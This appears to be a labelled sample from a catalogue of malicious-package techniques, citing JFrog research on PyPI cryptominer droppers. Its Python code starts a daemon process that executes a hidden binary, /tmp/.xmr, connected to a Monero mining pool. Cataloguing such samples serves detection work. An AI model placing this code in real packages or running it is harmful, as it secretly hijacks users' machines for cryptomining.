# technique: multiprocessing.Process target running a shell payload in the background
# class: lowlevel
# source: JFrog, PyPI cryptominer droppers that detach miners into background processes
# declares:
import multiprocessing
import os


def _miner():
    os.execv("/tmp/.xmr", ["/tmp/.xmr", "-o", "pool.minexmr.com:4444"])


def start():
    multiprocessing.Process(target=_miner, daemon=True).start()
